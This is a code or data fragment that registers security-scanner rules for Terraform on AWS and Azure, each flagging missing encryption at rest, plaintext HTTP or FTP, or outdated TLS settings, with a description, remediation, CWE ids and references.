  deferred("terraform-aws-dms", { "id": "aws-ebs-encryption-at-rest", "title": "EBS volume not encrypted", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_ebs_volume"], "description": "The volume is created unencrypted. Its data, and every snapshot taken of it, can be read by anyone who obtains a copy, and unencrypted snapshots can be shared outside the account.", "remediation": "Set `encrypted = true` (and `kms_key_id` to a customer-managed key), or turn on EBS encryption by default for the account and region.", "precision": "high", "cwe": ["CWE-311"], "frameworks": { "CIS AWS Foundations 3.0": ["2.2.1"] }, "tags": ["ebs", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html"] }),
  deferred("terraform-aws-dms", { "id": "aws-ebs-snapshot-encryption-at-rest", "title": "EBS snapshot not encrypted at rest", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_ebs_snapshot", "aws_ebs_snapshot_copy"], "description": "The snapshot is stored unencrypted: it is taken of an unencrypted volume, or a copy explicitly turns encryption off. Unencrypted snapshots can be shared with other accounts or made public, and anyone who can restore them reads the whole disk.", "remediation": "Snapshot only encrypted volumes, and copy existing unencrypted snapshots with `aws_ebs_snapshot_copy` and `encrypted = true` (plus `kms_key_id`).", "precision": "high", "cwe": ["CWE-311"], "tags": ["ebs", "snapshot", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/ebs_snapshot_copy#encrypted"] }),
  deferred("terraform-aws-instance", { "id": "aws-ec2-instance-volume-encryption", "title": "EC2 instance root or EBS block device not encrypted at rest", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_instance"], "description": "The instance's root volume or an attached `ebs_block_device` is created without `encrypted = true`. Unless the account turns on EBS encryption by default, the disk and its snapshots are stored unencrypted, and the setting cannot be changed without replacing the volume.", "remediation": "Set `encrypted = true` (and `kms_key_id`) in `root_block_device` and every `ebs_block_device`, or enable EBS encryption by default for the account and region (`aws_ebs_encryption_by_default`).", "precision": "medium", "cwe": ["CWE-311"], "frameworks": { "CIS AWS Foundations 3.0": ["2.2.1"] }, "tags": ["ec2", "ebs", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/instance#ebs-ephemeral-and-root-block-devices"] }),
  deferred("terraform-aws-efs", { "id": "aws-efs-encryption-at-rest", "title": "EFS file system not encrypted at rest", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_efs_file_system"], "description": "The file system stores its files and metadata unencrypted. EFS encryption at rest can only be chosen when the file system is created, so fixing it later means creating a new file system and copying every file across.", "remediation": "Set `encrypted = true` and `kms_key_id` to a customer-managed KMS key, then migrate the data to the new, encrypted file system (for example with AWS DataSync).", "precision": "very-high", "cwe": ["CWE-311"], "frameworks": { "CIS AWS Foundations 3.0": ["2.4.1"] }, "tags": ["efs", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/efs/latest/ug/encryption-at-rest.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/efs_file_system#encrypted"] }),
  deferred("terraform-aws-efs", { "id": "aws-eks-secrets-encryption-missing", "title": "EKS cluster without KMS envelope encryption of Kubernetes secrets", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_eks_cluster"], "description": "The cluster has no `encryption_config` for `secrets`, so Kubernetes Secrets are not envelope-encrypted with a KMS key you control. Older clusters store them in etcd protected only by volume encryption; newer ones use an AWS-owned key whose use you cannot audit in CloudTrail, restrict or revoke.", "remediation": 'Add `encryption_config { resources = ["secrets"]  provider { key_arn = aws_kms_key.eks.arn } }` with a customer-managed key that has rotation enabled.', "precision": "very-high", "cwe": ["CWE-311"], "tags": ["eks", "kubernetes", "secrets", "encryption-at-rest", "kms"], "references": ["https://docs.aws.amazon.com/eks/latest/userguide/enable-kms.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/eks_cluster#encryption_config"] }),
  deferred("terraform-aws-efs", { "id": "aws-elasticache-encryption-at-rest", "title": "ElastiCache replication group not encrypted at rest", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_elasticache_replication_group"], "description": "The Redis or Valkey replication group writes swap files, backups and snapshots to disk unencrypted. Caches often hold session tokens and personal data copied from the primary database, and encryption at rest can only be chosen when the group is created.", "remediation": "Set `at_rest_encryption_enabled = true` (with `kms_key_id` for a customer-managed key) and recreate the replication group, restoring from a backup if the data must be kept.", "precision": "high", "cwe": ["CWE-311"], "tags": ["elasticache", "redis", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/at-rest-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elasticache_replication_group#at_rest_encryption_enabled"] }),
  deferred("terraform-aws-efs", { "id": "aws-elasticache-encryption-in-transit", "title": "ElastiCache replication group without encryption in transit (TLS)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_elasticache_replication_group"], "description": 'Clients and replicas talk to the Redis or Valkey nodes in plain text, or TLS is only offered (`transit_encryption_mode = "preferred"`) so clients may still connect without it. Anyone who can observe traffic in the VPC can read cached data and the AUTH token.', "remediation": 'Set `transit_encryption_enabled = true` with `transit_encryption_mode = "required"`, and configure clients to connect over TLS.', "precision": "high", "cwe": ["CWE-319"], "tags": ["elasticache", "redis", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/AmazonElastiCache/latest/dg/in-transit-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elasticache_replication_group#transit_encryption_enabled"] }),
  deferred("terraform-aws-efs", { "id": "aws-elb-listener-http", "title": "Classic load balancer listener uses plain HTTP (no TLS)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_elb"], "description": 'A listener of the Classic Load Balancer accepts client traffic over plain HTTP (`lb_protocol = "http"`). Classic load balancers cannot redirect to HTTPS, so everything sent to that listener, cookies and credentials included, crosses the network unencrypted.', "remediation": "Replace the listener with an `https` listener and an ACM certificate (`ssl_certificate_id`), or migrate to an Application Load Balancer that redirects HTTP to HTTPS.", "precision": "high", "cwe": ["CWE-319"], "tags": ["elb", "encryption-in-transit", "http"], "references": ["https://docs.aws.amazon.com/elasticloadbalancing/latest/classic/elb-listener-config.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/elb#listener"] }),
  deferred("terraform-aws-instance", { "id": "aws-kinesis-firehose-encryption-at-rest", "title": "Kinesis Data Firehose delivery stream without server-side encryption", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_kinesis_firehose_delivery_stream"], "description": "Records sent directly to the delivery stream are buffered without server-side encryption before delivery. Streams fed by a Kinesis data stream or MSK rely on their source's encryption instead and are not reported.", "remediation": 'Add `server_side_encryption { enabled = true }`, with `key_type = "CUSTOMER_MANAGED_CMK"` and `key_arn` for a customer-managed KMS key.', "precision": "high", "cwe": ["CWE-311"], "tags": ["firehose", "kinesis", "encryption-at-rest", "sse"], "references": ["https://docs.aws.amazon.com/firehose/latest/dev/encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/kinesis_firehose_delivery_stream#server_side_encryption"] }),
  deferred("terraform-aws-instance", { "id": "aws-kinesis-stream-encryption-at-rest", "title": "Kinesis data stream not encrypted at rest", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_kinesis_stream"], "description": "The stream's `encryption_type` is `NONE` (the default), so records stay unencrypted in the stream's storage for the whole retention period.", "remediation": 'Set `encryption_type = "KMS"` and `kms_key_id` to a customer-managed key (or `alias/aws/kinesis`); encryption can be turned on for an existing stream.', "precision": "very-high", "cwe": ["CWE-311"], "tags": ["kinesis", "encryption-at-rest", "kms"], "references": ["https://docs.aws.amazon.com/streams/latest/dev/server-side-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/kinesis_stream#encryption_type"] }),
  deferred("terraform-aws-instance", { "id": "aws-kms-key-rotation-disabled", "title": "KMS key rotation not enabled on a symmetric customer-managed key", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_kms_key"], "description": "Automatic rotation is off for a symmetric encryption key. The same key material then protects data for the key's whole life, so a compromise of it exposes everything ever encrypted under it, and compliance regimes that require yearly rotation are not met.", "remediation": "Set `enable_key_rotation = true` (optionally `rotation_period_in_days`); AWS keeps old key material to decrypt existing data.", "precision": "very-high", "cwe": ["CWE-320"], "tags": ["kms", "key-rotation", "key-management"], "references": ["https://docs.aws.amazon.com/kms/latest/developerguide/rotate-keys.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/kms_key#enable_key_rotation"] }),
  deferred("terraform-aws-lambda", { "id": "aws-launch-configuration-volume-encryption", "title": "Launch configuration creates unencrypted EBS volumes", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_launch_configuration"], "description": "Every instance the Auto Scaling group launches from this configuration gets a root volume or EBS block device without `encrypted = true`, so, unless EBS encryption by default is on for the account, its disks are not encrypted at rest.", "remediation": "Set `encrypted = true` in `root_block_device` and every `ebs_block_device` (better, move to an `aws_launch_template`), or enable EBS encryption by default for the account and region.", "precision": "medium", "cwe": ["CWE-311"], "frameworks": { "CIS AWS Foundations 3.0": ["2.2.1"] }, "tags": ["ec2", "autoscaling", "ebs", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/launch_configuration#block-devices"] }),
  deferred("terraform-aws-lambda", { "id": "aws-launch-template-volume-encryption", "title": "Launch template block device mapping creates unencrypted EBS volumes", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_launch_template"], "description": "A `block_device_mappings` entry of the template defines an EBS volume without `encrypted = true`, so instances launched from it get disks that are not encrypted at rest unless EBS encryption by default is on for the account. Templates that leave volumes to the AMI are not reported.", "remediation": "Set `encrypted = true` (and `kms_key_id`) in the `ebs` block of every block device mapping, or enable EBS encryption by default for the account and region.", "precision": "medium", "cwe": ["CWE-311"], "frameworks": { "CIS AWS Foundations 3.0": ["2.2.1"] }, "tags": ["ec2", "launch-template", "ebs", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/ebs/latest/userguide/ebs-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/launch_template#block-devices"] }),
  deferred("terraform-aws-lb", { "id": "aws-lb-listener-http", "title": "Load balancer HTTP listener serves traffic without TLS", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_lb_listener", "aws_alb_listener"], "description": "The Application Load Balancer listener uses plain HTTP and forwards requests to targets instead of redirecting them to HTTPS, so credentials, cookies and response data cross the network unencrypted and can be altered in transit.", "remediation": 'Serve the application on an HTTPS listener with an ACM certificate, and make the HTTP listener\'s default action `redirect { protocol = "HTTPS" port = "443" status_code = "HTTP_301" }`.', "precision": "high", "cwe": ["CWE-319"], "tags": ["elb", "alb", "encryption-in-transit", "http"], "references": ["https://docs.aws.amazon.com/elasticloadbalancing/latest/application/load-balancer-listeners.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/lb_listener"] }),
  deferred("terraform-aws-lb", { "id": "aws-lb-listener-outdated-tls-policy", "title": "Load balancer listener TLS policy accepts TLS 1.0 or 1.1", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_lb_listener", "aws_alb_listener"], "description": "The listener's `ssl_policy` still negotiates TLS 1.0 or 1.1 (for example `ELBSecurityPolicy-2016-08` or `ELBSecurityPolicy-TLS-1-0-2015-04`). These versions are deprecated (RFC 8996), rely on weak ciphers and let an attacker in the path downgrade clients.", "remediation": "Use a TLS 1.2+ policy such as `ELBSecurityPolicy-TLS13-1-2-2021-06`.", "precision": "very-high", "cwe": ["CWE-327"], "tags": ["elb", "alb", "nlb", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/elasticloadbalancing/latest/application/describe-ssl-policies.html", "https://docs.aws.amazon.com/elasticloadbalancing/latest/network/describe-ssl-policies.html"] }),
  deferred("terraform-aws-lb", { "id": "aws-msk-customer-managed-key", "title": "MSK cluster not encrypted at rest with a customer-managed KMS key", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_msk_cluster"], "description": "MSK always encrypts broker storage, but without `encryption_at_rest_kms_key_arn` it uses the AWS-managed `aws/kafka` key, whose policy the account cannot restrict. A customer-managed key lets you limit and audit who can read topic data on disk.", "remediation": "Set `encryption_info { encryption_at_rest_kms_key_arn = aws_kms_key.kafka.arn }` when creating the cluster.", "precision": "medium", "cwe": ["CWE-311"], "tags": ["msk", "kafka", "kms", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/msk/latest/developerguide/msk-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/msk_cluster#encryption_at_rest_kms_key_arn"] }),
  deferred("terraform-aws-lb", { "id": "aws-msk-encryption-in-transit", "title": "MSK cluster allows plaintext traffic (no TLS encryption in transit)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_msk_cluster"], "description": "Kafka clients may connect to the brokers without TLS (`client_broker` of `PLAINTEXT` or `TLS_PLAINTEXT`), or brokers replicate to each other unencrypted (`in_cluster = false`), so messages and SASL credentials can be read on the network.", "remediation": 'Set `encryption_info { encryption_in_transit { client_broker = "TLS" in_cluster = true } }` and move clients to the TLS listeners.', "precision": "very-high", "cwe": ["CWE-319"], "tags": ["msk", "kafka", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/msk/latest/developerguide/msk-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/msk_cluster#encryption_in_transit"] }),
  deferred("terraform-aws-lb", { "id": "aws-neptune-encryption-at-rest", "title": "Neptune cluster storage not encrypted at rest", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_neptune_cluster"], "description": "The graph database cluster keeps its storage, backups and snapshots unencrypted. Neptune encryption is fixed at creation: an unencrypted cluster has to be rebuilt from an encrypted snapshot copy to fix it.", "remediation": "Set `storage_encrypted = true` and `kms_key_arn` to a customer-managed KMS key when creating the cluster.", "precision": "very-high", "cwe": ["CWE-311"], "tags": ["neptune", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/neptune/latest/userguide/encrypt.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/neptune_cluster#storage_encrypted"] }),
  deferred("terraform-aws-opensearch", { "id": "aws-opensearch-encryption-at-rest", "title": "OpenSearch / Elasticsearch domain not encrypted at rest", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_opensearch_domain", "aws_elasticsearch_domain"], "description": "The search domain stores its indices, logs, swap files and automated snapshots unencrypted. Search indices usually copy the most queried fields of the primary data (names, emails, documents).", "remediation": "Add `encrypt_at_rest { enabled = true }` (with `kms_key_id` for a customer-managed key); older domains may first need an engine upgrade.", "precision": "high", "cwe": ["CWE-311"], "tags": ["opensearch", "elasticsearch", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/opensearch-service/latest/developerguide/encryption-at-rest.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#encrypt_at_rest"] }),
  deferred("terraform-aws-opensearch", { "id": "aws-opensearch-https-not-enforced", "title": "OpenSearch / Elasticsearch domain does not enforce HTTPS", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_opensearch_domain", "aws_elasticsearch_domain"], "description": "The domain endpoint accepts plain HTTP, so queries, indexed documents and signed requests can travel without TLS. Without a `domain_endpoint_options` block the service does not require HTTPS.", "remediation": 'Add `domain_endpoint_options { enforce_https = true tls_security_policy = "Policy-Min-TLS-1-2-2019-07" }`.', "precision": "high", "cwe": ["CWE-319"], "tags": ["opensearch", "elasticsearch", "encryption-in-transit", "https"], "references": ["https://docs.aws.amazon.com/opensearch-service/latest/developerguide/infrastructure-security.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#enforce_https"] }),
  deferred("terraform-aws-opensearch", { "id": "aws-opensearch-node-to-node-encryption", "title": "OpenSearch / Elasticsearch domain without node-to-node encryption (TLS)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_opensearch_domain", "aws_elasticsearch_domain"], "description": "Nodes of the domain exchange index data and search results without TLS, so traffic inside the cluster can be read by anything that can observe the VPC network. Node-to-node encryption is also a prerequisite for fine-grained access control.", "remediation": "Add `node_to_node_encryption { enabled = true }`.", "precision": "high", "cwe": ["CWE-319"], "tags": ["opensearch", "elasticsearch", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/opensearch-service/latest/developerguide/ntn.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#node_to_node_encryption"] }),
  deferred("terraform-aws-opensearch", { "id": "aws-opensearch-outdated-tls-policy", "title": "OpenSearch / Elasticsearch domain accepts TLS 1.0 and 1.1", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_opensearch_domain", "aws_elasticsearch_domain"], "description": "The endpoint's TLS security policy `Policy-Min-TLS-1-0-2019-07` still negotiates TLS 1.0 and 1.1, protocol versions with known weaknesses that are deprecated by the IETF (RFC 8996).", "remediation": 'Set `tls_security_policy = "Policy-Min-TLS-1-2-2019-07"` (or a newer TLS 1.2/1.3 policy) in `domain_endpoint_options`.', "precision": "very-high", "cwe": ["CWE-327"], "tags": ["opensearch", "elasticsearch", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/opensearch-service/latest/APIReference/API_DomainEndpointOptions.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/opensearch_domain#tls_security_policy"] }),
  deferred("terraform-aws-cloudtrail", { "id": "aws-rds-encryption-at-rest", "title": "RDS database or Aurora cluster storage not encrypted at rest", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_db_instance", "aws_rds_cluster"], "description": "The database is created without storage encryption, so its data files, automated backups, read replicas and snapshots are all unencrypted. Encryption cannot be switched on later without copying a snapshot and restoring into a new instance.", "remediation": "Set `storage_encrypted = true` and `kms_key_id` to a customer-managed KMS key when the database is created; for an existing database, restore an encrypted copy of its latest snapshot and switch over.", "precision": "high", "cwe": ["CWE-311"], "frameworks": { "CIS AWS Foundations 3.0": ["2.3.1"] }, "tags": ["rds", "aurora", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/AmazonRDS/latest/UserGuide/Overview.Encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/db_instance#storage_encrypted"] }),
  deferred("terraform-aws-opensearch", { "id": "aws-redshift-encryption-at-rest", "title": "Redshift cluster explicitly not encrypted at rest", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_redshift_cluster"], "description": "`encrypted = false` keeps the data warehouse's blocks and snapshots unencrypted. New provisioned clusters are encrypted by AWS when nothing is said, so only an explicit `false` (kept from an older cluster or provider) leaves the data in clear.", "remediation": "Set `encrypted = true` with `kms_key_id` pointing at a customer-managed KMS key; Redshift migrates an existing cluster to encrypted storage in place.", "precision": "very-high", "cwe": ["CWE-311"], "tags": ["redshift", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/redshift/latest/mgmt/working-with-db-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/redshift_cluster#encrypted"] }),
  deferred("terraform-aws-s3", { "id": "aws-s3-bucket-policy-allows-insecure-transport", "title": "S3 bucket policy does not deny requests without TLS (aws:SecureTransport)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_s3_bucket_policy", "aws_s3_bucket"], "description": "The bucket has a policy, but no statement denies requests made over plain HTTP (`aws:SecureTransport` = `false`). S3 accepts unencrypted HTTP requests, so credentials' signatures and object contents can cross the network in clear text, open to interception and tampering.", "remediation": 'Add a statement with `Effect = "Deny"`, `Principal = "*"`, `Action = "s3:*"`, the bucket and `bucket/*` as resources, and `Condition = { Bool = { "aws:SecureTransport" = "false" } }`.', "precision": "high", "cwe": ["CWE-319"], "frameworks": { "CIS AWS Foundations 3.0": ["2.1.1"] }, "tags": ["s3", "encryption-in-transit", "tls"], "references": ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/security-best-practices.html#transit"] }),
  deferred("terraform-aws-s3", { "id": "aws-s3-encryption-at-rest", "title": "S3 bucket without server-side encryption", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_s3_bucket"], "description": "The bucket declares no server-side encryption, neither inline (`server_side_encryption_configuration`) nor through an `aws_s3_bucket_server_side_encryption_configuration` resource that refers to it. Objects then rely on the account default, and nothing in code shows which key protects them or who may use it.", "remediation": 'Add an `aws_s3_bucket_server_side_encryption_configuration` for the bucket with `sse_algorithm = "aws:kms"` and a customer-managed key (or at least `AES256`).', "precision": "high", "cwe": ["CWE-311"], "frameworks": { "CIS AWS Foundations 1.4.0": ["2.1.1"] }, "tags": ["s3", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/serv-side-encryption.html"] }),
  deferred("terraform-aws-s3", { "id": "aws-sagemaker-notebook-customer-managed-key", "title": "SageMaker notebook volume not encrypted with a customer-managed KMS key", "severity": "low", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_sagemaker_notebook_instance"], "description": "Without `kms_key_id` the notebook's storage volume, which holds datasets, notebooks and cached credentials, is encrypted with an AWS-managed key whose use the account cannot restrict.", "remediation": "Set `kms_key_id` to a customer-managed KMS key when creating the notebook instance.", "precision": "medium", "cwe": ["CWE-311"], "tags": ["sagemaker", "kms", "encryption-at-rest"], "references": ["https://docs.aws.amazon.com/sagemaker/latest/dg/encryption-at-rest-nbi.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sagemaker_notebook_instance#kms_key_id"] }),
  deferred("terraform-aws-security", { "id": "aws-sns-topic-encryption-at-rest", "title": "SNS topic not encrypted at rest (no KMS key)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_sns_topic"], "description": "Without `kms_master_key_id` the topic does not use server-side encryption: messages waiting for delivery are stored without a KMS key, and access to them is not controlled or logged through a key policy.", "remediation": "Set `kms_master_key_id` to a customer-managed KMS key (or at least `alias/aws/sns`), and allow the publishing services to use the key.", "precision": "high", "cwe": ["CWE-311"], "tags": ["sns", "encryption-at-rest", "kms"], "references": ["https://docs.aws.amazon.com/sns/latest/dg/sns-server-side-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sns_topic#kms_master_key_id"] }),
  deferred("terraform-aws-security", { "id": "aws-sqs-queue-encryption-at-rest", "title": "SQS queue server-side encryption turned off", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_sqs_queue"], "description": "`sqs_managed_sse_enabled = false` with no `kms_master_key_id` turns off the encryption at rest that SQS applies to new queues by default, so queued messages are stored unencrypted.", "remediation": "Remove `sqs_managed_sse_enabled = false`, or set `kms_master_key_id` to a customer-managed KMS key.", "precision": "very-high", "cwe": ["CWE-311"], "tags": ["sqs", "encryption-at-rest", "sse"], "references": ["https://docs.aws.amazon.com/AWSSimpleQueueService/latest/SQSDeveloperGuide/sqs-server-side-encryption.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/sqs_queue#sqs_managed_sse_enabled"] }),
  deferred("terraform-aws-security", { "id": "aws-transfer-server-plaintext-ftp", "title": "Transfer Family server accepts plain FTP (no TLS)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["aws_transfer_server"], "description": "The server's `protocols` include `FTP`, which sends user names, passwords and file contents unencrypted. SFTP and FTPS protect both with encryption in transit.", "remediation": "Remove `FTP` from `protocols` and offer `SFTP` or `FTPS` instead.", "precision": "very-high", "cwe": ["CWE-319"], "tags": ["transfer-family", "ftp", "encryption-in-transit"], "references": ["https://docs.aws.amazon.com/transfer/latest/userguide/create-server-ftp.html", "https://registry.terraform.io/providers/hashicorp/aws/latest/docs/resources/transfer_server#protocols"] }),
  deferred("terraform-azurerm-app", { "id": "azure-app-service-ftp-allowed", "title": "App Service allows plain FTP deployments (ftps_state AllAllowed)", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_app_service", "azurerm_app_service_slot", "azurerm_function_app", "azurerm_linux_web_app", "azurerm_windows_web_app", "azurerm_linux_web_app_slot", "azurerm_windows_web_app_slot", "azurerm_linux_function_app", "azurerm_windows_function_app"], "description": '`ftps_state = "AllAllowed"` accepts unencrypted FTP as well as FTPS, so deployment credentials and the site\'s code cross the network in plain text. Anyone who captures them can replace the application.', "remediation": 'Set `site_config { ftps_state = "Disabled" }`, or `"FtpsOnly"` if FTP deployment is still needed, and deploy through zip deploy or a pipeline instead.', "precision": "very-high", "cwe": ["CWE-319"], "tags": ["azure", "app-service", "ftp", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/app-service/deploy-ftp#enforce-ftps", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#ftps_state"] }),
  deferred("terraform-azurerm-app", { "id": "azure-app-service-https-only", "title": "App Service does not enforce HTTPS only", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_app_service", "azurerm_app_service_slot", "azurerm_function_app", "azurerm_linux_web_app", "azurerm_windows_web_app", "azurerm_linux_web_app_slot", "azurerm_windows_web_app_slot", "azurerm_linux_function_app", "azurerm_windows_function_app"], "description": "Without `https_only = true` the app also answers plain HTTP, so session cookies, tokens and form data can be read or changed by anyone on the network path. The provider default is `false`.", "remediation": "Set `https_only = true` so that App Service redirects every HTTP request to HTTPS.", "precision": "very-high", "cwe": ["CWE-319"], "frameworks": { "CIS Microsoft Azure Foundations 2.0": ["9.2"] }, "tags": ["azure", "app-service", "https", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/app-service/configure-ssl-bindings#enforce-https", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#https_only"] }),
  deferred("terraform-azurerm-app", { "id": "azure-app-service-minimum-tls-version", "title": "App Service minimum TLS version below 1.2", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_app_service", "azurerm_app_service_slot", "azurerm_function_app", "azurerm_linux_web_app", "azurerm_windows_web_app", "azurerm_linux_web_app_slot", "azurerm_windows_web_app_slot", "azurerm_linux_function_app", "azurerm_windows_function_app"], "description": "The app (or its deployment site) accepts TLS 1.0 or 1.1, protocol versions with known weaknesses that are no longer allowed by PCI DSS and most security baselines.", "remediation": 'Set `site_config { minimum_tls_version = "1.2" }` (`min_tls_version` on `azurerm_app_service`), or remove it to use the 1.2 default.', "precision": "very-high", "cwe": ["CWE-326"], "frameworks": { "CIS Microsoft Azure Foundations 2.0": ["9.3"] }, "tags": ["azure", "app-service", "tls", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/app-service/overview-tls", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/linux_web_app#minimum_tls_version"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-database-minimum-tls-version", "title": "Database server minimum TLS version below 1.2", "severity": "medium", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_mssql_server", "azurerm_mysql_server", "azurerm_postgresql_server", "azurerm_mariadb_server"], "description": "The server accepts TLS 1.0 or 1.1 (or no minimum at all), protocol versions with known weaknesses that allow downgrade attacks on client connections.", "remediation": 'Set `minimum_tls_version = "1.2"` on SQL servers and `ssl_minimal_tls_version_enforced = "TLS1_2"` on MySQL, PostgreSQL and MariaDB servers.', "precision": "very-high", "cwe": ["CWE-326"], "tags": ["azure", "database", "tls", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/azure-sql/database/connectivity-settings#minimal-tls-version", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/mssql_server#minimum_tls_version"] }),
  deferred("terraform-azurerm-mssql", { "id": "azure-database-ssl-enforcement-disabled", "title": "Database server does not enforce SSL/TLS connections", "severity": "high", "category": "encryption", "platforms": ["terraform"], "resourceTypes": ["azurerm_mysql_server", "azurerm_postgresql_server", "azurerm_mariadb_server", "azurerm_mysql_flexible_server_configuration", "azurerm_postgresql_flexible_server_configuration"], "description": "The server accepts unencrypted client connections, so credentials and query results can cross the network in plain text and be read or altered in transit.", "remediation": "Set `ssl_enforcement_enabled = true` on single servers; on flexible servers leave `require_secure_transport` at `ON`.", "precision": "very-high", "cwe": ["CWE-319"], "frameworks": { "CIS Microsoft Azure Foundations 2.0": ["4.3.1", "4.4.1"] }, "tags": ["azure", "database", "tls", "encryption-in-transit"], "references": ["https://learn.microsoft.com/azure/postgresql/single-server/concepts-ssl-connection-security", "https://learn.microsoft.com/azure/mysql/flexible-server/how-to-connect-tls-ssl", "https://registry.terraform.io/providers/hashicorp/azurerm/latest/docs/resources/postgresql_server#ssl_enforcement_enabled"] }),
